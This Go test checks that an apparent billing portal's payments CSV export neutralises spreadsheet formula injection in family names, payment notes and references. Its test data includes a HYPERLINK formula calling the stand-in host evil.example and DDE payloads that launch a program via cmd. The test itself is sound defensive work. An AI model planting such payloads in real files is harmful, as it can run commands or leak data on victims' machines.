package portal

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jmoiron/sqlx"

	"github.com/regie/regie/migrations/dbtest"
	"github.com/regie/regie/payments"
	"github.com/regie/regie/portal/staff"
	"github.com/regie/regie/tenant"
	"github.com/regie/regie/tenant/tenanttest"
)

// TestAbuse_FormulaInjection: the payments export, the platform's one CSV,
// neutralises every free-text cell a spreadsheet would run as a formula —
// family names as the import, the API or the back office stored them, and
// references a pattern such as "-{numero:6}" gives — while amounts, dates
// and years stay plain numbers.
func TestAbuse_FormulaInjection(t *testing.T) {
	e := sharedEnv(t)
	ctx := context.Background()
	db := dbtest.DB(t)
	tn := tenanttest.MustCreate(t, db, "formule", func(t *tenant.Tenant) { t.Mode = tenant.ModeProduction })
	names := []string{
		`=HYPERLINK("http://evil.example/?x";"Cliquez ici")`,
		`+1+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"＝1+1", // full-width: Windows-1252 has no such sign, it becomes "?"
		"Famille Ordinaire",
	}
	var rows []string
	for i := range names {
		rows = append(rows, fmt.Sprintf("FX%d;Famille %d;%s;1 rue;84000;Ville;RS;01/2026;Repas;%d;1,00;15/12/2099", i, i, uniqueAddr(t, fmt.Sprint("fx", i)), i+1))
	}
	publishCSV(t, e, tn, rows...)
	want := map[string]string{} // reference → name as stored
	for i, name := range names {
		db.MustExec(`UPDATE families SET name = $3 WHERE tenant_id = $1 AND ref = $2`, tn.ID, fmt.Sprint("FX", i), name)
	}
	// a reference as the pattern "-{numero:6}" would write it
	db.MustExec(`UPDATE invoices SET reference = '-' || reference WHERE tenant_id = $1 AND family_id = (SELECT id FROM families WHERE tenant_id = $1 AND ref = 'FX7')`, tn.ID)
	var invs []struct {
		ID        int64  `db:"id"`
		Reference string `db:"reference"`
		Total     int64  `db:"total_cents"`
		Name      string `db:"name"`
	}
	if err := db.Select(&invs, `SELECT i.id, i.reference, i.total_cents, f.name FROM invoices i JOIN families f ON f.tenant_id = i.tenant_id AND f.id = i.family_id
		WHERE i.tenant_id = $1`, tn.ID); err != nil || len(invs) != len(names) {
		t.Fatalf("%d invoices, %v", len(invs), err)
	}
	amounts := map[string]int64{}
	if err := tenant.WithTx(ctx, db, tn.ID, func(tx *sqlx.Tx) error {
		for _, inv := range invs {
			want[inv.Reference], amounts[inv.Reference] = inv.Name, inv.Total
			if _, err := payments.RecordCounterPayment(ctx, tx, tn.ID, inv.ID, inv.Total, "cash", time.Now(), "=1+1 "+inv.Name); err != nil {
				return err
			}
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}

	b := staffLogin(t, e, tn, newMember(t, e, tn, staff.Reader, false))
	res, body := b.get("/gestion/paiements.csv")
	expect(t, res, body, http.StatusOK, "")
	recs := readExport(t, res, body)
	if len(recs) != len(names) {
		t.Fatalf("%d lines, want %d", len(recs), len(names))
	}
	numeric := map[int]*regexp.Regexp{0: regexp.MustCompile(`^\d{2}/\d{2}/\d{4}$`), 1: regexp.MustCompile(`^\d{2}:\d{2}$`),
		4: regexp.MustCompile(`^\d{4}$`), 5: regexp.MustCompile(`^\d+,\d{2}$`)}
	for _, r := range recs {
		for col, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts with %q: %q", exportColumns[col], cell[0], cell)
			}
			if re := numeric[col]; re != nil && !re.MatchString(cell) {
				t.Errorf("column %s is not a plain number: %q", exportColumns[col], cell)
			}
		}
		ref := strings.TrimPrefix(r[2], "'")
		name, ok := want[ref]
		if !ok {
			t.Errorf("line of an unknown reference %q", r[2])
			continue
		}
		if strings.HasPrefix(ref, "-") != strings.HasPrefix(r[2], "'") {
			t.Errorf("reference %q exported as %q", ref, r[2])
		}
		wantName := cellText(name)
		if name == "＝1+1" {
			wantName = "?1+1"
		} else if name != "Famille Ordinaire" && wantName != "'"+name {
			t.Errorf("name %q neutralised as %q, want a leading apostrophe and nothing lost", name, wantName)
		}
		// the CRLF writer drops a lone carriage return
		if r[10] != strings.ReplaceAll(wantName, "\r", "") {
			t.Errorf("famille %q exported as %q, want %q", name, r[10], wantName)
		}
		if cents, _ := strconv.ParseInt(strings.Replace(r[5], ",", "", 1), 10, 64); cents != amounts[ref] {
			t.Errorf("montant of %s: %q, want %d cents", ref, r[5], amounts[ref])
		}
	}
}
